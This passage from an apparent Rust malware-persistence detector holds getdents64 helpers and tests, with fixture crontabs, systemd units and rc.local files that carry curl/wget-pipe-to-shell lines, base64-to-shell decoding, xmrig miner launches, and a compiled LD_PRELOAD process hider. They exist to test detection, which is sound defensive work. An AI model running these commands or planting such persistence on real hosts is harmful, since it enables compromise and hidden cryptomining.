}

/// FS_IMMUTABLE_FL through FS_IOC_GETFLAGS (false where unsupported).
fn is_immutable(fd: &OwnedFd) -> bool {
    let mut attr: libc::c_long = 0;
    // SAFETY: FS_IOC_GETFLAGS writes at most a long into `attr`.
    let r = unsafe { libc::ioctl(fd.as_raw_fd(), libc::FS_IOC_GETFLAGS, &mut attr) };
    r == 0 && attr & FS_IMMUTABLE_FL != 0
}

fn mode_kind(mode: libc::mode_t) -> &'static str {
    match mode & libc::S_IFMT {
        libc::S_IFREG => "regular file",
        libc::S_IFDIR => "directory",
        libc::S_IFLNK => "symlink",
        libc::S_IFIFO => "fifo",
        libc::S_IFSOCK => "socket",
        libc::S_IFCHR => "character device",
        libc::S_IFBLK => "block device",
        _ => "unknown file type",
    }
}

fn cstring(bytes: &[u8]) -> io::Result<CString> {
    CString::new(bytes)
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "name contains a NUL byte"))
}

fn owned(fd: c_int) -> io::Result<OwnedFd> {
    if fd < 0 {
        Err(io::Error::last_os_error())
    } else {
        // SAFETY: `fd` was just returned by the kernel and nothing else owns it.
        Ok(unsafe { OwnedFd::from_raw_fd(fd) })
    }
}

/// Opens a directory given by the caller (the root itself may be reached through symlinks).
fn open_dir_path(path: &Path) -> io::Result<OwnedFd> {
    let c = cstring(path.as_os_str().as_bytes())?;
    // SAFETY: `c` is NUL-terminated and lives across the call.
    owned(unsafe { libc::open(c.as_ptr(), DIR_FLAGS & !libc::O_NOFOLLOW) })
}

fn open_at(dir: &OwnedFd, name: &[u8], flags: c_int) -> io::Result<OwnedFd> {
    let c = cstring(name)?;
    // SAFETY: `c` is NUL-terminated; `dir` is an open descriptor.
    owned(unsafe { libc::openat(dir.as_raw_fd(), c.as_ptr(), flags) })
}

fn lstat_at(dir: &OwnedFd, name: &[u8]) -> io::Result<libc::stat> {
    let c = cstring(name)?;
    let mut st = MaybeUninit::<libc::stat>::uninit();
    // SAFETY: `c` is NUL-terminated; `st` is writable.
    let r = unsafe {
        libc::fstatat(
            dir.as_raw_fd(),
            c.as_ptr(),
            st.as_mut_ptr(),
            libc::AT_SYMLINK_NOFOLLOW,
        )
    };
    if r != 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fstatat succeeded and filled `st`.
    Ok(unsafe { st.assume_init() })
}

fn fstat_fd(fd: &OwnedFd) -> io::Result<libc::stat> {
    let mut st = MaybeUninit::<libc::stat>::uninit();
    // SAFETY: `st` is writable; `fd` is open.
    if unsafe { libc::fstat(fd.as_raw_fd(), st.as_mut_ptr()) } != 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fstat succeeded and filled `st`.
    Ok(unsafe { st.assume_init() })
}

fn read_link_at(dir: &OwnedFd, name: &[u8]) -> io::Result<String> {
    let c = cstring(name)?;
    let mut buf = vec![0u8; 4096];
    // SAFETY: `buf` is writable for its length; `c` is NUL-terminated.
    let n = unsafe {
        libc::readlinkat(
            dir.as_raw_fd(),
            c.as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    let n = usize::try_from(n).map_err(|_| io::Error::last_os_error())?;
    buf.truncate(n);
    Ok(String::from_utf8_lossy(&buf).into_owned())
}

struct DirEntry {
    name: Vec<u8>,
    d_type: u8,
}

/// All entries but `.` and `..`, read with the raw getdents64 syscall (never
/// glibc readdir). The bool says the listing stopped at `max`.
fn getdents(dir: &OwnedFd, max: usize) -> io::Result<(Vec<DirEntry>, bool)> {
    const HEADER: usize = 19; // d_ino u64, d_off i64, d_reclen u16, d_type u8
    let mut buf = vec![0u64; 8192]; // 64 KiB, 8-byte aligned
    let bytes = buf.len() * std::mem::size_of::<u64>();
    let mut out = Vec::new();
    loop {
        // SAFETY: `buf` is writable for `bytes` bytes; the fd is an open directory.
        let n = unsafe {
            libc::syscall(
                libc::SYS_getdents64,
                libc::c_long::from(dir.as_raw_fd()),
                buf.as_mut_ptr().cast::<u8>(),
                bytes as libc::c_long,
            )
        };
        if n < 0 {
            let e = io::Error::last_os_error();
            if e.kind() == io::ErrorKind::Interrupted {
                continue;
            }
            return Err(e);
        }
        let n = usize::try_from(n).unwrap_or(0).min(bytes);
        if n == 0 {
            return Ok((out, false));
        }
        // SAFETY: the kernel initialised the first `n` bytes of `buf`.
        let raw: &[u8] = unsafe { std::slice::from_raw_parts(buf.as_ptr().cast::<u8>(), n) };
        let mut off = 0;
        while off + HEADER <= raw.len() {
            let reclen = usize::from(u16::from_ne_bytes([raw[off + 16], raw[off + 17]]));
            if reclen < HEADER || off + reclen > raw.len() {
                return Err(io::Error::new(
                    io::ErrorKind::InvalidData,
                    "malformed getdents64 record",
                ));
            }
            let d_type = raw[off + 18];
            let field = &raw[off + HEADER..off + reclen];
            let name = &field[..field.iter().position(|&b| b == 0).unwrap_or(field.len())];
            if name != b"." && name != b".." {
                if out.len() >= max {
                    return Ok((out, true));
                }
                out.push(DirEntry {
                    name: name.to_vec(),
                    d_type,
                });
            }
            off += reclen;
        }
    }
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use std::ffi::CString;
    use std::os::unix::fs::symlink;
    use std::process::{Child, Command as Proc, Stdio};
    use std::time::Instant;

    /// The LD_PRELOAD hider the tests compile with `cc`: hooks readdir and
    /// readdir64 and skips the entry named by `$MW_HIDE_PID` (the technique of
    /// libprocesshider, without its /proc check).
    pub const HIDER_C: &str = include_str!("../../tests/support/hider.c");

    // ---- rolling pid sweeps ----------------------------------------------

    fn rolling(last_pid: Option<i32>, cursor: i32, slices: u32) -> Sweep {
        Sweep::Rolling {
            last_pid,
            cursor,
            slices,
            also: Vec::new(),
        }
    }

    #[test]
    fn sweep_plans() {
        assert_eq!(
            plan_sweep(&Sweep::Full, 32768, Some(500)),
            (vec![(1, 32768)], 1)
        );
        // First rolling sweep: everything allocated so far, and a slice.
        assert_eq!(
            plan_sweep(&rolling(None, 1, 4), 1000, Some(300)),
            (vec![(1, 300)], 251)
        );
        // Then: what was allocated since, and the next slice.
        assert_eq!(
            plan_sweep(&rolling(Some(300), 251, 4), 1000, Some(320)),
            (vec![(251, 500)], 501)
        );
        assert_eq!(
            plan_sweep(&rolling(Some(320), 751, 4), 1000, Some(330)),
            (vec![(321, 330), (751, 1000)], 1)
        );
        // The allocator wrapped around pid_max.
        assert_eq!(
            plan_sweep(&rolling(Some(990), 1, 4), 1000, Some(310)),
            (vec![(1, 310), (991, 1000)], 251)
        );
        // Nothing allocated since.
        assert_eq!(
            plan_sweep(&rolling(Some(330), 501, 4), 1000, Some(330)),
            (vec![(501, 750)], 751)
        );
        // No allocator position: the whole range.
        assert_eq!(
            plan_sweep(&rolling(Some(330), 501, 4), 1000, None),
            (vec![(1, 1000)], 1)
        );
    }

    #[test]
    fn rolling_slices_cover_the_whole_range() {
        let mut covered = vec![false; 1001];
        let mut cursor = 1;
        for _ in 0..7 {
            let (ranges, next) = plan_sweep(&rolling(Some(5), cursor, 7), 1000, Some(5));
            for (a, b) in ranges {
                for p in a..=b {
                    covered[p as usize] = true;
                }
            }
            cursor = next;
        }
        assert!(covered[1..].iter().all(|c| *c));
        assert_eq!(cursor, 1);
    }

    #[test]
    fn a_rolling_sweep_finds_a_process_started_since_the_last_one() {
        let proc_fd = open_dir_path(Path::new("/proc")).ok();
        let before = last_allocated_pid(proc_fd.as_ref()).expect("/proc/loadavg");
        let kid = Kid::sleep();
        let pid_max = read_value_at(proc_fd.as_ref().expect("/proc"), "sys/kernel/pid_max")
            .and_then(|v| v.trim().parse::<i32>().ok())
            .expect("pid_max");
        // The slice sits at the very end of the range, away from the kid.
        let sweep = rolling(Some(before), pid_max, 1_000_000);
        let (found, swept) = brute_force_sweep(Path::new("/proc"), false, &sweep);
        assert!(found.contains(&kid.pid()), "{swept:?}");
        assert!(swept.probed(kid.pid()));
        assert!(swept.count() < u64::try_from(pid_max).unwrap_or(0));
        assert_eq!(swept.next_slice, 1);
        // A pid found hidden before is asked about on its own.
        let sweep = Sweep::Rolling {
            last_pid: Some(kid.pid()),
            cursor: pid_max,
            slices: 1_000_000,
            also: vec![kid.pid()],
        };
        let (found, swept) = brute_force_sweep(Path::new("/proc"), false, &sweep);
        assert!(found.contains(&kid.pid()), "{swept:?}");
        assert_eq!(swept.pids, vec![kid.pid()]);
    }

    // ---- guards ----------------------------------------------------------

    /// A child we started: killed and reaped on drop.
    struct Kid(Child);
    impl Kid {
        fn sleep() -> Kid {
            Kid(Proc::new("sleep")
                .arg("60")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .spawn()
                .expect("spawn sleep"))
        }
        fn pid(&self) -> i32 {
            i32::try_from(self.0.id()).expect("pid fits i32")
        }
    }
    impl Drop for Kid {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }

    /// A mount we made: detached on drop.
    struct Mounted(CString);
    impl Drop for Mounted {
        fn drop(&mut self) {
            // SAFETY: a NUL-terminated path we mounted on.
            unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
        }
    }

    /// chattr +i on a file we made; cleared on drop (before the tempdir goes).
    struct Immutable(PathBuf);
    impl Immutable {
        fn set(path: &Path) -> io::Result<Immutable> {
            set_immutable(path, true)?;
            Ok(Immutable(path.to_path_buf()))
        }
    }
    impl Drop for Immutable {
        fn drop(&mut self) {
            let _ = set_immutable(&self.0, false);
        }
    }
    fn set_immutable(path: &Path, on: bool) -> io::Result<()> {
        let c = cstring(path.as_os_str().as_bytes())?;
        // SAFETY: NUL-terminated path.
        let fd = owned(unsafe {
            libc::open(
                c.as_ptr(),
                libc::O_RDONLY | libc::O_CLOEXEC | libc::O_NOFOLLOW,
            )
        })?;
        let mut attr: libc::c_long = 0;
        // SAFETY: FS_IOC_GETFLAGS/SETFLAGS read and write one long.
        if unsafe { libc::ioctl(fd.as_raw_fd(), libc::FS_IOC_GETFLAGS, &mut attr) } != 0 {
            return Err(io::Error::last_os_error());
        }
        if on {
            attr |= FS_IMMUTABLE_FL;
        } else {
            attr &= !FS_IMMUTABLE_FL;
        }
        // SAFETY: as above.
        if unsafe { libc::ioctl(fd.as_raw_fd(), libc::FS_IOC_SETFLAGS, &attr) } != 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    // ---- fixtures --------------------------------------------------------

    struct Fixture {
        _dir: tempfile::TempDir,
        root: PathBuf,
        proc: PathBuf,
    }

    /// A fixture root and a fake proc root (pid_max 64, no pids).
    fn fixture() -> Fixture {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("root");
        let proc = dir.path().join("proc");
        std::fs::create_dir_all(&root).expect("mkdir root");
        let fx = Fixture {
            root,
            proc,
            _dir: dir,
        };
        put(&fx.proc, "sys/kernel/pid_max", "64\n");
        fx
    }

    fn put(base: &Path, rel: &str, content: &str) -> PathBuf {
        let path = base.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        std::fs::write(&path, content).expect("write fixture");
        path
    }

    fn observe(fx: &Fixture) -> (HostFacts, Vec<(String, String)>) {
        observe_host(&fx.root, &fx.proc)
    }

    fn entry_for<'a>(facts: &'a HostFacts, needle: &str) -> &'a PersistenceEntry {
        facts
            .persistence
            .iter()
            .find(|e| e.text.contains(needle))
            .unwrap_or_else(|| {
                panic!(
                    "no persistence entry with {needle:?} in {:#?}",
                    facts.persistence
                )
            })
    }

    fn has(reasons: &[String], r: &str) -> bool {
        reasons.iter().any(|x| x == r)
    }

    // ---- indicators ------------------------------------------------------

    #[test]
    fn ld_so_preload_entries() {
        let fx = fixture();
        put(
            &fx.root,
            "etc/ld.so.preload",
            "/usr/local/lib/libprocesshider.so\n/etc/libsystem.so:/x.so\n",
        );
        let (facts, _) = observe(&fx);
        let p = facts.ld_so_preload.expect("ld.so.preload seen");
        assert_eq!(
            p.entries,
            [
                "/usr/local/lib/libprocesshider.so",
                "/etc/libsystem.so",
                "/x.so"
            ]
        );
        assert!(p.path.ends_with("/etc/ld.so.preload"));
        assert!(!p.immutable);
        // none of those is mapped into us
        assert!(
            facts
                .self_preloaded
                .iter()
                .all(|l| !l.contains("processhider"))
        );

        let empty = fixture();
        assert_eq!(observe(&empty).0.ld_so_preload, None);
    }

    #[test]
    fn hugepages_reserved_without_consumer() {
        let fx = fixture();
        put(
            &fx.proc,
            "meminfo",
            "MemTotal: 8000000 kB\nHugePages_Total:    1168\nHugePages_Free:     1168\n\
             HugePages_Rsvd:        0\nHugePages_Surp:        0\nHugepagesize:       2048 kB\n",
        );
        put(
            &fx.root,
            "sys/kernel/mm/hugepages/hugepages-1048576kB/nr_hugepages",
            "3\n",
        );
        put(
            &fx.root,
            "sys/kernel/mm/hugepages/hugepages-1048576kB/free_hugepages",
            "3\n",
        );
        let (facts, gaps) = observe(&fx);
        assert_eq!(
            facts.hugepages,
            HugePages {
                nr_hugepages: 1168,
                free: 1168,
                reserved: 0,
                surplus: 0,
                size_kib: 2048,
                nr_1g: 3,
                free_1g: 3,
            }
        );
        assert!(
            !gaps.iter().any(|(w, _)| w.ends_with("meminfo")),
            "{gaps:?}"
        );
    }

    #[test]
    fn msr_allow_writes_on() {
        let fx = fixture();
        put(&fx.root, "sys/module/msr/parameters/allow_writes", "on\n");
        assert_eq!(observe(&fx).0.msr_allow_writes.as_deref(), Some("on"));
        assert_eq!(observe(&fixture()).0.msr_allow_writes, None);
    }

    #[test]
    fn nmi_watchdog_off() {
        let fx = fixture();
        put(&fx.proc, "sys/kernel/nmi_watchdog", "0\n");
        assert_eq!(observe(&fx).0.nmi_watchdog.as_deref(), Some("0"));
    }

    #[test]
    fn sysctl_files() {
        let fx = fixture();
        put(
            &fx.root,
            "etc/sysctl.conf",
            "# tuning\nvm.swappiness = 10\nvm.nr_hugepages = 1280\n",
        );
        put(
            &fx.root,
            "etc/sysctl.d/10-x.conf",
            "kernel.nmi_watchdog=0\n-vm/nr_overcommit_hugepages = 64\n",
        );
        put(
            &fx.root,
            "usr/lib/sysctl.d/50-pid-max.conf",
            "kernel.pid_max = 4194304\n",
        );
        put(&fx.root, "etc/sysctl.d/README", "vm.nr_hugepages = 9\n"); // not *.conf
        symlink(
            "../sysctl.conf",
            fx.root.join("etc/sysctl.d/99-sysctl.conf"),
        )
        .expect("symlink");
        let (facts, gaps) = observe(&fx);
        let got: Vec<(String, u32, &str, &str)> = facts
            .sysctl
            .iter()
            .map(|s| {
                (
                    basename(&s.file).to_string(),
                    s.line,
                    s.key.as_str(),
                    s.value.as_str(),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                ("sysctl.conf".to_string(), 3, "vm.nr_hugepages", "1280"),
                ("10-x.conf".to_string(), 1, "kernel.nmi_watchdog", "0"),
                (
                    "10-x.conf".to_string(),
                    2,
                    "vm.nr_overcommit_hugepages",
                    "64"
                ),
            ]
        );
        // Debian's 99-sysctl.conf -> ../sysctl.conf is read anyway: no gap
        assert!(
            !gaps.iter().any(|(w, _)| w.contains("99-sysctl")),
            "{gaps:?}"
        );
    }

    #[test]
    fn crontab_download_and_boot_miner() {
        let fx = fixture();
        let user = "SHELL=/bin/sh\n\
                    */5 * * * * curl -fsSL http://x/y.sh | sh\n\
                    @reboot /tmp/.X25-unix/.rsync/c/kswapd0 -B -o stratum+tcp://pool:3333 -u 4Abc\n\
                    0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n";
        put(&fx.root, "var/spool/cron/crontabs/root", user);
        put(
            &fx.root,
            "etc/crontab",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
             * * * * * root wget -q -O - http://1.2.3.4/i.sh | bash\n\
             */10 * * * * root echo ZWNobyBoaQ== | base64 -d | sh\n",
        );
        let (facts, _) = observe(&fx);
        assert_eq!(facts.persistence.len(), 4, "{:#?}", facts.persistence);

        let curl = entry_for(&facts, "curl -fsSL");
        assert_eq!(curl.kind, "cron");
        assert_eq!(curl.line, 2);
        assert!(curl.path.ends_with("var/spool/cron/crontabs/root"));
        assert_eq!(curl.reasons, ["downloads and pipes into a shell"]);
        assert_eq!(curl.executable.as_deref(), Some("curl"));

        let boot = entry_for(&facts, "@reboot");
        assert_eq!(
            boot.executable.as_deref(),
            Some("/tmp/.X25-unix/.rsync/c/kswapd0")
        );
        for r in [
            "runs from /tmp",
            "runs from a hidden directory",
            "runs a program named like a kernel thread (kswapd0)",
            "has a stratum pool URL",
            "has pool arguments (-o host:port -u user)",
            "runs in the background (-B) with a pool",
            "runs at boot (@reboot)",
        ] {
            assert!(has(&boot.reasons, r), "{r} missing from {:?}", boot.reasons);
        }

        let wget = entry_for(&facts, "wget -q -O -");
        assert_eq!(wget.reasons, ["downloads and pipes into a shell"]);
        assert_eq!(wget.executable.as_deref(), Some("wget"));
        let b64 = entry_for(&facts, "base64 -d");
        assert_eq!(b64.reasons, ["decodes base64 and pipes into a shell"]);
        assert!(
            !facts
                .persistence
                .iter()
                .any(|e| e.text.contains("logrotate") || e.text.contains("run-parts"))
        );
    }

    #[test]
    fn systemd_miner_unit() {
        let fx = fixture();
        put(
            &fx.root,
            "etc/systemd/system/sys_miner.service",
            "[Unit]\nDescription=System\n[Service]\nExecStart=/dev/shm/.x/kdevtmpfsi\nRestart=always\n",
        );
        put(
            &fx.root,
            "etc/systemd/system/ssh.service",
            "[Service]\nExecStart=/usr/sbin/sshd -D\n",
        );
        put(
            &fx.root,
            "usr/lib/systemd/system/cron.service",
            "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
        );
        put(
            &fx.root,
            "home/alice/.config/systemd/user/dbus-x.service",
            "[Service]\nExecStart=/bin/sh -c \\\n  \"/home/alice/.cache/xmrig-6.21/xmrig --donate-level 1 -o pool.example:443 -u 4Abc\"\n",
        );
        // wants/ links into scanned trees are normal; a link to /opt is a gap
        std::fs::create_dir_all(fx.root.join("etc/systemd/system/multi-user.target.wants"))
            .expect("mkdir");
        symlink(
            "/lib/systemd/system/cron.service",
            fx.root
                .join("etc/systemd/system/multi-user.target.wants/cron.service"),
        )
        .expect("symlink");
        symlink(
            "/opt/x/helper.service",
            fx.root
                .join("etc/systemd/system/multi-user.target.wants/helper.service"),
        )
        .expect("symlink");
        let wants = fx
            .root
            .join("home/alice/.config/systemd/user/default.target.wants");
        std::fs::create_dir_all(&wants).expect("mkdir");
        symlink("../dbus-x.service", wants.join("dbus-x.service")).expect("symlink");
        let (facts, gaps) = observe(&fx);
        assert!(!gaps.iter().any(|(w, _)| w.contains("/home/")), "{gaps:?}");

        let unit = entry_for(&facts, "kdevtmpfsi");
        assert_eq!(unit.kind, "systemd");
        assert_eq!(unit.line, 4);
        assert_eq!(unit.text, "ExecStart=/dev/shm/.x/kdevtmpfsi");
        assert_eq!(unit.executable.as_deref(), Some("/dev/shm/.x/kdevtmpfsi"));
        for r in [
            "runs from /dev/shm",
            "runs from a hidden directory",
            "names the miner kdevtmpfsi",
            "unit named like a miner (sys_miner.service)",
        ] {
            assert!(has(&unit.reasons, r), "{r} missing from {:?}", unit.reasons);
        }

        let user = entry_for(&facts, "xmrig --donate-level");
        assert_eq!(user.line, 2);
        assert_eq!(
            user.executable.as_deref(),
            Some("/home/alice/.cache/xmrig-6.21/xmrig")
        );
        assert!(has(&user.reasons, "names the miner xmrig"));
        assert!(has(&user.reasons, "has the miner flag --donate-level"));
        assert!(has(
            &user.reasons,
            "has pool arguments (-o host:port -u user)"
        ));

        assert_eq!(facts.persistence.len(), 2, "{:#?}", facts.persistence);
        assert!(
            gaps.iter()
                .any(|(w, e)| w.ends_with("helper.service") && e.contains("/opt/x")),
            "{gaps:?}"
        );
        assert!(
            !gaps.iter().any(|(w, _)| w.ends_with("wants/cron.service")),
            "{gaps:?}"
        );
    }

    #[test]
    fn rc_local_from_var_tmp() {
        let fx = fixture();
        put(
            &fx.root,
            "etc/rc.local",
            "#!/bin/sh -e\n# rc.local\nnohup /var/tmp/.sys/sshd >/dev/null 2>&1 &\nexit 0\n",
        );
        let (facts, _) = observe(&fx);
        assert_eq!(facts.persistence.len(), 1, "{:#?}", facts.persistence);
        let e = &facts.persistence[0];
        assert_eq!((e.kind.as_str(), e.line), ("rc.local", 3));
        assert_eq!(e.executable.as_deref(), Some("/var/tmp/.sys/sshd"));
        assert_eq!(
            e.reasons,
            ["runs from /var/tmp", "runs from a hidden directory"]
        );
    }

    #[test]
    fn benign_lines_are_not_returned() {
        let fx = fixture();
        put(
            &fx.root,
            "etc/crontab",
            "SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n",
        );
        put(
            &fx.root,
            "etc/cron.d/e2scrub_all",
            "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
        );
        put(
            &fx.root,
            "etc/cron.daily/logrotate",
            "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\nTMP=$(mktemp /tmp/x.XXXX)\nrm -f /tmp/x.*\n",
        );
        put(
            &fx.root,
            "etc/systemd/system/sshd.service",
            "[Service]\nExecStart=/usr/sbin/sshd -D\nExecReload=/bin/kill -HUP $MAINPID\n",
        );
        put(
            &fx.root,
            "usr/lib/systemd/system/systemd-sysupdate.service",
            "[Service]\nExecStart=/usr/lib/systemd/systemd-sysupdate update\n",
        );
        let (facts, gaps) = observe(&fx);
        assert!(facts.persistence.is_empty(), "{:#?}", facts.persistence);
        assert!(facts.sysctl.is_empty());
        assert!(!gaps.iter().any(|(w, _)| w.contains("/etc/")), "{gaps:?}");
    }

    #[test]
    fn immutable_file_is_reported() {
        let fx = fixture();
        let benign = put(
            &fx.root,
            "etc/cron.d/sync",
            "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
        );
        let placeholder = put(&fx.root, "etc/cron.d/kthreaddk", "");
        let _g1 = Immutable::set(&benign).expect("chattr +i (needs root and ext4/xfs/btrfs)");
        let _g2 = Immutable::set(&placeholder).expect("chattr +i");
        let (facts, _) = observe(&fx);
        let sync = facts
            .persistence
            .iter()
            .find(|e| e.path.ends_with("cron.d/sync"))
            .expect("immutable reported");
        assert!(sync.immutable);
        assert_eq!(sync.reasons, ["immutable (chattr +i)"]);
        assert_eq!(sync.line, 1);
        assert_eq!(sync.executable.as_deref(), Some("/usr/sbin/logrotate"));
        let ph = facts
            .persistence
            .iter()
            .find(|e| e.path.ends_with("cron.d/kthreaddk"))
            .expect("placeholder");
        assert!(ph.immutable);
        assert_eq!(
            ph.reasons,
            [
                "file named like the miner kthreaddk",
                "immutable (chattr +i)"
            ]
        );
        assert_eq!(ph.line, 0);
    }

    #[test]
    fn symlinks_and_fifos_are_not_followed() {
        let fx = fixture();
        let outside = put(
            &fx.root,
            "../outside/evil",
            "* * * * * root curl http://x | sh\n",
        );
        std::fs::create_dir_all(fx.root.join("etc/cron.d")).expect("mkdir");
        symlink(&outside, fx.root.join("etc/crontab")).expect("symlink");
        symlink(&outside, fx.root.join("etc/cron.d/link")).expect("symlink");
        symlink("/tmp/.x/payload", fx.root.join("etc/rc.local")).expect("symlink");
        let fifo =
            CString::new(fx.root.join("etc/cron.d/pipe").as_os_str().as_bytes()).expect("path");
        // SAFETY: NUL-terminated path in our tempdir.
        assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
        // a symlinked directory on the way is not entered either
        std::fs::create_dir_all(fx.root.join("../outside/spool")).expect("mkdir");
        put(
            &fx.root,
            "../outside/spool/root",
            "* * * * * curl http://x | sh\n",
        );
        std::fs::create_dir_all(fx.root.join("var/spool/cron")).expect("mkdir");
        symlink(
            fx.root.join("../outside/spool"),
            fx.root.join("var/spool/cron/crontabs"),
        )
        .expect("symlink");
        symlink(&outside, fx.root.join("etc/ld.so.preload")).expect("symlink");

        let started = Instant::now();
        let (facts, gaps) = observe(&fx);
        assert!(started.elapsed().as_secs() < 30, "no hang");
        assert!(
            !facts.persistence.iter().any(|e| e.text.contains("curl")),
            "{:#?}",
            facts.persistence
        );
        for what in [
            "etc/crontab",
            "cron.d/link",
            "cron.d/pipe",
            "etc/rc.local",
            "cron/crontabs",
            "ld.so.preload",
        ] {
            assert!(
                gaps.iter().any(|(w, _)| w.ends_with(what)),
                "no gap for {what}: {gaps:?}"
            );
        }
        assert!(
            gaps.iter()
                .any(|(w, e)| w.ends_with("cron.d/pipe") && e.contains("fifo")),
            "{gaps:?}"
        );
        // the rc.local link's target itself is suspect
        let rc = facts
            .persistence
            .iter()
            .find(|e| e.kind == "rc.local")
            .expect("rc.local link entry");
        assert_eq!(rc.text, "symlink -> /tmp/.x/payload");
        assert!(has(&rc.reasons, "runs from /tmp"));
        let p = facts
            .ld_so_preload
            .expect("symlinked ld.so.preload reported");
        assert!(p.entries.is_empty());
        assert!(p.symlink_target.is_some());
    }

    // ---- processes -------------------------------------------------------

    fn alive(pid: i32) -> bool {
        // SAFETY: signal 0.
        unsafe { libc::kill(pid, 0) == 0 }
    }

    #[test]
    fn raw_listing_matches_readdir() {
        let kid = Kid::sleep();
        let proc = Path::new("/proc");
        let raw = list_pids_raw(proc).expect("getdents64");
        let rd = list_pids_readdir(proc).expect("readdir");
        assert!(raw.contains(&kid.pid()) && rd.contains(&kid.pid()));
        let (raw2, rd2) = (
            list_pids_raw(proc).expect("getdents64"),
            list_pids_readdir(proc).expect("readdir"),
        );
        for h in hidden_pids(
            &raw,
            &rd,
            &raw.iter().chain(&rd).copied().collect::<Vec<_>>(),
        ) {
            // only races: gone now, or in both listings the second time
            let again = raw2.contains(&h.pid) && rd2.contains(&h.pid);
            assert!(!alive(h.pid) || again, "{h:?} differs between listings");
        }
    }

    #[test]
    fn brute_force_finds_leaders_only() {
        let kid = Kid::sleep();
        let started = Instant::now();
        let brute = brute_force_pids(Path::new("/proc"));
        let took = started.elapsed();
        let pid_max = std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap_or_default();
        eprintln!(
            "brute_force_pids: pid_max {} in {took:?}, {} pids",
            pid_max.trim(),
            brute.len()
        );
        assert!(brute.contains(&kid.pid()));
        assert!(brute.contains(&1));
        // our own test threads are not thread-group leaders
        let me = i32::try_from(std::process::id()).expect("pid");
        let tids: Vec<i32> = std::fs::read_dir(format!("/proc/{me}/task"))
            .expect("task dir")
            .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
            .filter(|&t| t != me)
            .collect();
        for tid in tids {
            assert!(
                !brute.contains(&tid) || !alive(tid),
                "thread {tid} listed as a process"
            );
        }
        assert!(took.as_secs_f64() < 5.0, "brute force took {took:?}");
        assert!(hidden_pids(&brute, &brute, &brute).is_empty());
    }

    /// Measures the brute force over the largest possible pid space
    /// (`cargo test -- --ignored --nocapture brute_force_4m`).
    #[test]
    #[ignore = "measurement"]
    fn brute_force_4m() {
        let proc_fd = open_dir_path(Path::new("/proc")).expect("/proc");
        for probe in [Probe::Syscalls, Probe::SyscallsThenStat] {
            let label = format!("{probe:?}");
            let started = Instant::now();
            let found = scan_pid_range(Some(&proc_fd), probe, 1, PID_MAX_LIMIT);
            eprintln!(
                "{label}: 1..={PID_MAX_LIMIT} in {:?} ({} ids)",
                started.elapsed(),
                found.len()
            );
        }
    }

    #[test]
    fn hidden_pids_compares_listings() {
        let h = hidden_pids(&[1, 2, 5], &[1, 2], &[1, 2, 5, 9]);
        assert_eq!(
            h,
            [
                HiddenPid {
                    pid: 5,
                    seen_by: vec![GETDENTS.into(), BRUTE.into()],
                    missing_from: vec![READDIR.into()]
                },
                HiddenPid {
                    pid: 9,
                    seen_by: vec![BRUTE.into()],
                    missing_from: vec![GETDENTS.into(), READDIR.into()]
                },
            ]
        );
    }

    fn build_hider(dir: &Path) -> PathBuf {
        let src = dir.join("hider.c");
        let so = dir.join("hider.so");
        std::fs::write(&src, HIDER_C).expect("write hider.c");
        let status = Proc::new("cc")
            .args(["-shared", "-fPIC", "-o"])
            .arg(&so)
            .arg(&src)
            .arg("-ldl")
            .status()
            .expect("run cc");
        assert!(status.success(), "cc failed");
        so
    }

    fn ls_proc(preload: Option<(&Path, i32)>) -> Vec<i32> {
        let mut cmd = Proc::new("ls");
        cmd.arg("/proc").env_remove("LD_PRELOAD");
        if let Some((so, pid)) = preload {
            cmd.env("LD_PRELOAD", so)
                .env("MW_HIDE_PID", pid.to_string());
        }
        let out = cmd.output().expect("ls /proc");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| l.trim().parse().ok())
            .collect()
    }

    #[test]
    fn ld_preload_hider_is_seen_through() {
        let dir = tempfile::tempdir().expect("tempdir");
        let so = build_hider(dir.path());
        let kid = Kid::sleep();
        let pid = kid.pid();
        assert!(
            ls_proc(None).contains(&pid),
            "ls sees the sleep without the hider"
        );
        assert!(
            !ls_proc(Some((&so, pid))).contains(&pid),
            "the hider hides it from ls"
        );

        // Re-run this test binary, hider preloaded, to run `hider_child` alone.
        let name = format!(
            "{}::hider_child",
            module_path!()
                .split_once("::")
                .map_or(module_path!(), |(_, rest)| rest)
        );
        let out = Proc::new(std::env::current_exe().expect("current_exe"))
            .args([name.as_str(), "--exact", "--nocapture", "--test-threads=1"])
            .env("LD_PRELOAD", &so)
            .env("MW_HIDE_PID", pid.to_string())
            .env("MW_HIDER_CHILD", pid.to_string())
            .output()
            .expect("re-run test binary");
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "child failed:\n{stdout}\n{stderr}");
        assert!(
            stdout.contains("MW_HIDER_CHILD_OK"),
            "child test did not run:\n{stdout}\n{stderr}"
        );
    }

    /// Runs only inside the re-executed binary of `ld_preload_hider_is_seen_through`.
